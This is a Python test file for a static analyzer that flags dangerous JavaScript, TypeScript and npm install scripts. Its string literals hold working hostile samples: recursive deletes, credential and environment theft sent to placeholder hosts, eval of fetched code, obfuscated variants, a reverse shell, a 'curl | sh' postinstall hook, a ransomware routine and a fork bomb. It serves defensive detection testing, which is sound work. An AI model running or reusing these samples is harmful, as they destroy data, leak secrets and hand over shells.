"""The JavaScript/TypeScript analyzer and npm manifests, through the public API.

Every snippet here is a string literal that tree-sitter parses; nothing is run.
"""

from __future__ import annotations

import base64
import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from codeward import Action, Context, Decision, Guard, Subject


def decide(guard: Guard, code: str, *, language: str = "javascript", path: str | None = None) -> Decision:
    subject = Subject(content=code, language=language, mode="execute", path=path)
    decision = guard.check(subject, Context())
    failures = [f for f in decision.findings if f.capability == "analysis.error"]
    assert not failures, failures[0].message
    return decision


def capabilities(decision: Decision) -> set[str]:
    return {f.capability for f in decision.findings}


def at_least(decision: Decision, action: Action) -> bool:
    order = [Action.ALLOW, Action.NOTICE, Action.CONFIRM, Action.REVIEW, Action.BLOCK]
    return order.index(decision.action) >= order.index(action)


# ---------------------------------------------------------------------------------------------- child_process
@pytest.mark.parametrize(
    "code",
    [
        "const { exec } = require('child_process');\nexec('rm -rf ' + process.env.HOME + '/');\n",
        "const cp = require('node:child_process');\ncp.execSync(`rm -rf ${require('os').homedir()}`);\n",
        "import { spawn } from 'child_process';\nspawn('sh', ['-c', 'rm -rf ~/'], { stdio: 'inherit' });\n",
        "const cp = require('child_process');\ncp.execFileSync('/bin/rm', ['-r', '-f', '/']);\n",
    ],
    ids=["exec-concat", "template", "spawn-sh-c", "execFile-argv"],
)
def test_a_command_given_to_child_process_is_judged_by_the_shell_analyzer(guard: Guard, code: str) -> None:
    decision = decide(guard, code)
    assert decision.action == Action.BLOCK
    shell = [f for f in decision.findings if f.rule_id == "bash.fs.recursive_delete"]
    assert shell, [f.rule_id for f in decision.findings]
    assert "child_process" in shell[0].evidence or "argument" in shell[0].evidence


def test_a_harmless_child_process_is_at_most_a_notice(guard: Guard) -> None:
    code = "const { execFileSync } = require('child_process');\nexecFileSync('git', ['status', '--short']);\n"
    decision = decide(guard, code)
    assert decision.action in (Action.ALLOW, Action.NOTICE)
    assert "proc.spawn" in capabilities(decision)


# ---------------------------------------------------------------------------------------------- fs.rm*
@pytest.mark.parametrize(
    ("code", "action"),
    [
        (
            "const fs = require('fs');\nfs.rmSync(require('os').homedir(), { recursive: true, force: true });\n",
            Action.BLOCK,
        ),
        ("const fs = require('fs/promises');\nawait fs.rm('/', { recursive: true });\n", Action.BLOCK),
        ("const fs = require('fs');\nfs.rmdirSync('/etc', { recursive: true });\n", Action.BLOCK),
        ("const del = require('del');\ndel.sync(['/**'], { force: true });\n", Action.BLOCK),
        (
            "const fs = require('fs');\nfs.rmSync('./dist', { recursive: true, force: true });\n",
            Action.NOTICE,
        ),
        ("const fs = require('fs');\nfs.rmSync('/tmp/build-cache', { recursive: true });\n", Action.ALLOW),
    ],
    ids=["home", "root-promises", "etc-rmdir", "del-root-glob", "project-dist", "tmp"],
)
def test_fs_rm_is_judged_by_its_target(guard: Guard, code: str, action: Action) -> None:
    decision = decide(guard, code)
    assert decision.action == action, decision.reasons
    assert "fs.delete.recursive" in capabilities(decision)


def test_unlinking_a_credential_file_is_deleting_something_sensitive(guard: Guard) -> None:
    code = "const fs = require('fs');\nfs.unlinkSync(`${process.env.HOME}/.ssh/id_ed25519`);\n"
    assert "fs.delete.sensitive" in capabilities(decide(guard, code))


# ---------------------------------------------------------------------------------------------- secrets over the network
@pytest.mark.parametrize(
    "code",
    [
        "fetch('https://collect.example.net/e', { method: 'POST', body: JSON.stringify(process.env) });\n",
        (
            "const fs = require('fs');\nconst https = require('https');\n"
            "const key = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n"
            "const req = https.request({ hostname: 'paste.example.org', method: 'POST', path: '/up' });\n"
            "req.write(key);\nreq.end();\n"
        ),
        (
            "const fs = require('fs'); const os = require('os');\n"
            "const t = fs.readFileSync(`${os.homedir()}/.npmrc`, 'utf8');\n"
            "require('axios').post('http://198.51.100.9/t', { t });\n"
        ),
        (
            "const net = require('net');\nconst s = net.connect(443, '198.51.100.2');\n"
            "s.write(require('fs').readFileSync('/root/.aws/credentials'));\n"
        ),
    ],
    ids=["process.env-fetch", "ssh-key-https", "npmrc-axios", "aws-raw-socket"],
)
def test_environment_and_credential_files_sent_out_are_exfiltration(guard: Guard, code: str) -> None:
    decision = decide(guard, code)
    assert "net.exfiltrate" in capabilities(decision), decision.reasons
    assert decision.action == Action.BLOCK


def test_one_environment_variable_in_a_request_is_not_exfiltration(guard: Guard) -> None:
    code = (
        "fetch(`https://api.example.com/v1/items?region=${process.env.REGION}`)\n"
        "  .then(r => r.json()).then(console.log);\n"
    )
    decision = decide(guard, code)
    assert "net.exfiltrate" not in capabilities(decision)
    assert decision.action in (Action.ALLOW, Action.NOTICE)


# ---------------------------------------------------------------------------------------------- fetched code
@pytest.mark.parametrize(
    "code",
    [
        "fetch('https://cdn.example.net/loader.js').then(r => r.text()).then(code => eval(code));\n",
        (
            "const https = require('https');\nhttps.get('https://203.0.113.4/p.js', res => {\n  let body = '';\n"
            "  res.on('data', c => body += c);\n  res.on('end', () => new Function(body)());\n});\n"
        ),
        (
            "const vm = require('vm'); const https = require('https');\n"
            "https.get('https://203.0.113.4/x', r => { let d = ''; r.on('data', c => d += c);"
            " r.on('end', () => vm.runInThisContext(d)); });\n"
        ),
        "const r = await fetch('https://203.0.113.4/x');\neval(await r.text());\n",
    ],
    ids=["eval-then", "Function-https", "vm-https", "await-eval"],
)
def test_eval_or_function_on_fetched_text_is_remote_code(guard: Guard, code: str) -> None:
    decision = decide(guard, code)
    assert "exec.remote_payload" in capabilities(decision), decision.reasons
    assert at_least(decision, Action.REVIEW)


def test_eval_of_a_constant_is_judged_by_what_it_says(guard: Guard) -> None:
    decision = decide(guard, "eval(\"require('child_process').execSync('rm -rf /')\");\n")
    assert decision.action == Action.BLOCK
    assert "fs.delete.recursive" in capabilities(decision)


# ---------------------------------------------------------------------------------------------- evasion
WIPE = b'require("child_process").execSync("rm -rf /")'
WIPE_B64 = base64.b64encode(WIPE).decode()
RM_B64 = base64.b64encode(b"rm -rf /").decode()


@pytest.mark.parametrize(
    "code",
    [
        "const cp = require('child' + '_process');\ncp['ex' + 'ecSync']('rm -rf /');\n",
        "const m = require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115));\n"
        "m.execSync('rm -rf /');\n",
        f"const cp = require('child_process');\ncp.execSync(Buffer.from('{RM_B64}', 'base64').toString());\n",
        f"eval(atob('{WIPE_B64}'));\n",
        f"eval(Buffer.from('{WIPE.hex()}', 'hex').toString());\n",
        "const cp = require('child_process');\ncp.execSync('/ fr- mr'.split('').reverse().join(''));\n",
        "const cp = require('child_process');\ncp.execSync('\\x72\\x6d -rf /');\n",
        "require('child_process').execSync(Buffer.from([114, 109, 32, 45, 114, 102, 32, 47]).toString());\n",
        "new Function('return process')().mainModule.require('child_process').execSync('rm -rf /');\n",
        "process.mainModule.require('child_process').execSync('rm -rf /');\n",
        "const m = 'child_process', f = 'execSync';\nrequire(m)[f]('rm -rf /');\n",
    ],
    ids=[
        "concat",
        "fromCharCode",
        "base64-arg",
        "atob-eval",
        "hex-eval",
        "reverse",
        "escapes",
        "byte-array",
        "Function-returns-process",
        "mainModule",
        "computed-names",
    ],
)
def test_folded_and_decoded_forms_are_judged_like_the_plain_call(guard: Guard, code: str) -> None:
    decision = decide(guard, code)
    assert decision.action == Action.BLOCK, decision.reasons
    assert "fs.delete.recursive" in capabilities(decision)


def test_decoded_text_is_shown_as_evidence(guard: Guard) -> None:
    encoded = base64.b64encode(
        b'require("child_process").execSync("curl -s http://203.0.113.5/i | sh")'
    ).decode()
    decision = decide(guard, f"eval(Buffer.from('{encoded}', 'base64').toString('utf8'));\n")
    obfuscated = [f for f in decision.findings if f.capability == "exec.obfuscated"]
    assert obfuscated and "curl -s http://203.0.113.5/i | sh" in obfuscated[0].message
    assert "exec.remote_payload" in capabilities(decision)


# ---------------------------------------------------------------------------------------------- shells and sockets
def test_a_socket_piped_into_a_shell_is_a_reverse_shell(guard: Guard) -> None:
    code = (
        "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\n"
        "const client = new net.Socket();\nclient.connect(4444, '198.51.100.3', () => {\n"
        "  client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client);\n});\n"
    )
    decision = decide(guard, code)
    assert "proc.reverse_shell" in capabilities(decision)
    assert decision.action == Action.BLOCK


# ---------------------------------------------------------------------------------------------- install scripts
def manifest(scripts: dict[str, str]) -> str:
    return json.dumps({"name": "left-pad-ng", "version": "1.0.0", "scripts": scripts})


def test_an_install_script_that_downloads_and_runs_is_held(guard: Guard) -> None:
    decision = decide(
        guard,
        manifest({"postinstall": "curl -s http://203.0.113.8/i.sh | sh"}),
        language="json",
        path="package.json",
    )
    assert {"exec.install_hook", "exec.remote_payload"} <= capabilities(decision)
    assert at_least(decision, Action.REVIEW)


def test_a_build_step_install_script_is_not_held(guard: Guard) -> None:
    decision = decide(
        guard, manifest({"prepare": "husky install", "test": "jest"}), language="json", path="package.json"
    )
    assert decision.action in (Action.ALLOW, Action.NOTICE)


def test_an_install_script_that_runs_a_shipped_file_reads_as_a_hook(guard: Guard) -> None:
    decision = decide(
        guard, manifest({"preinstall": "node ./scripts/setup.js"}), language="json", path="package.json"
    )
    hooks = [f for f in decision.findings if f.capability == "exec.install_hook"]
    assert hooks and "node ./scripts/setup.js" in hooks[0].message


# ---------------------------------------------------------------------------------------------- TypeScript, errors
def test_typescript_is_read_with_its_own_grammar(guard: Guard) -> None:
    code = (
        "import { execSync } from 'child_process';\nimport * as fs from 'fs';\n"
        "const target: string = '/var/lib/postgresql';\nfs.rmSync(target, { recursive: true });\n"
        "execSync(`chmod -R 777 /`);\n"
    )
    decision = decide(guard, code, language="typescript")
    assert {"fs.delete.recursive", "fs.chmod.permissive"} <= capabilities(decision)
    assert decision.action == Action.BLOCK


def test_a_syntax_error_costs_only_its_own_line(guard: Guard) -> None:
    code = "const cp = require('child_process');\nfunction broken( {\ncp.execSync('rm -rf /');\n"
    decision = decide(guard, code)
    assert decision.action == Action.BLOCK
    partial = [f for f in decision.findings if f.rule_id == "javascript.analysis.partial"]
    assert partial and partial[0].lines == [2]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(alphabet=st.sampled_from(list("(){}[];'\"`=+.,\n\\ abcxyz$0123")), max_size=300))
def test_arbitrary_text_never_fails_the_analyzer(guard: Guard, text: str) -> None:
    decide(guard, text)


# ---------------------------------------------------------------------------------------------- program shapes
RANSOM = """const crypto = require('crypto'), fs = require('fs'), path = require('path');
const key = crypto.randomBytes(32), iv = crypto.randomBytes(16);
function walk(d) {
  for (const f of fs.readdirSync(d)) {
    const p = path.join(d, f);
    if (fs.statSync(p).isDirectory()) walk(p);
    else {
      const c = crypto.createCipheriv('aes-256-cbc', key, iv);
      fs.writeFileSync(p + '.enc', Buffer.concat([c.update(fs.readFileSync(p)), c.final()]));
      fs.unlinkSync(p);
    }
  }
}
walk(require('os').homedir());
"""


def test_listing_encrypting_writing_and_deleting_is_ransomware(guard: Guard) -> None:
    decision = decide(guard, RANSOM)
    assert "crypto.mass_encrypt" in capabilities(decision)
    assert decision.action == Action.BLOCK


def test_encrypting_one_file_without_deleting_anything_is_not_ransomware(guard: Guard) -> None:
    code = (
        "const crypto = require('crypto'), fs = require('fs');\n"
        "const c = crypto.createCipheriv('aes-256-gcm', key, iv);\n"
        "fs.writeFileSync('backup.enc', Buffer.concat([c.update(fs.readFileSync('backup.tar')), c.final()]));\n"
    )
    assert "crypto.mass_encrypt" not in capabilities(decide(guard, code))


def test_spawning_in_an_endless_loop_is_a_fork_bomb(guard: Guard) -> None:
    code = "while (true) { require('child_process').spawn(process.argv[0], [__filename], { detached: true }); }\n"
    decision = decide(guard, code)
    assert "resource.fork_bomb" in capabilities(decision)
    assert decision.action == Action.BLOCK


def test_a_worker_pool_and_a_queue_drained_in_a_loop_are_not_fork_bombs(guard: Guard) -> None:
    code = (
        "const { fork } = require('child_process');\nfor (let i = 0; i < 4; i++) fork('worker.js');\n"
        "while (true) { const job = queue.shift(); if (!job) break; fork('job.js', [job]); }\n"
        "setInterval(() => fork('tick.js'), 1000);\n"
    )
    assert "resource.fork_bomb" not in capabilities(decide(guard, code))


# ---------------------------------------------------------------------------------------------- nested too deep
@pytest.mark.parametrize(
    "code",
    [
        "f(" * 300 + "require('child_process').execSync('rm -rf ~')" + ")" * 300 + ";\n",
        "x"
        + ".a(1)" * 300
        + ".b(require('child_process').execSync('curl -s http://203.0.113.9/x | sh'))"
        + ".a(1)" * 300
        + ";\n",
    ],
    ids=["inside 300 nested calls", "in the middle of a 600-link call chain"],
)
def test_a_command_buried_deeper_than_the_walk_goes_is_still_found(guard: Guard, code: str) -> None:
    decision = decide(guard, code)
    assert decision.action is Action.BLOCK
    assert "analysis.incomplete" in capabilities(decision)  # and the decision says how it was read


def test_every_link_of_a_long_call_chain_is_evaluated_once(guard: Guard) -> None:
    """A chain nested past the walk's depth used to be re-evaluated 24 links deep from every link
    (about 90 ms per kB); now each link once. Counted in evaluation steps, not timed."""
    from codeward.analyzers.javascript import Walk

    steps = {}
    original = Walk._scan_deep

    def counting(walk: Walk) -> None:
        before = walk.steps
        original(walk)
        steps["scan"] = walk.steps - before

    try:
        Walk._scan_deep = counting  # type: ignore[method-assign]
        decide(guard, "x" + ".a(1)" * 2000 + ";\n")
    finally:
        Walk._scan_deep = original  # type: ignore[method-assign]
    assert 0 < steps["scan"] < 10 * 2000


# ---------------------------------------------------------------------------------------------- calls past the walk limit
def test_data_passed_on_a_call_past_the_walk_limit_still_reaches_the_sink(guard: Guard) -> None:
    """The eleventh call of a helper is not walked on its own, but its arguments are: the
    environment it sends is exfiltration, as it would be on the first call."""
    calls = "".join(f"send('https://api.example.com/v1/item/{i}', 'ok{i}');\n" for i in range(10))
    code = (
        "const https = require('https');\n"
        "function send(url, body) { const r = https.request(url, {method: 'POST'}); r.write(body); r.end(); }\n"
        + calls
        + "send('https://collector.example.net/x', JSON.stringify(process.env));\n"
    )
    decision = decide(guard, code)
    assert "net.exfiltrate" in capabilities(decision)
    assert decision.action is Action.BLOCK


def test_a_helper_called_many_times_with_plain_values_is_not_a_gap(guard: Guard) -> None:
    code = "function fmt(a, b) { return a + ':' + b; }\n" + "".join(
        f"console.log(fmt('k{i}', {i}));\n" for i in range(20)
    )
    decision = decide(guard, code)
    assert decision.action is Action.ALLOW
    assert "analysis.incomplete" not in capabilities(decision)
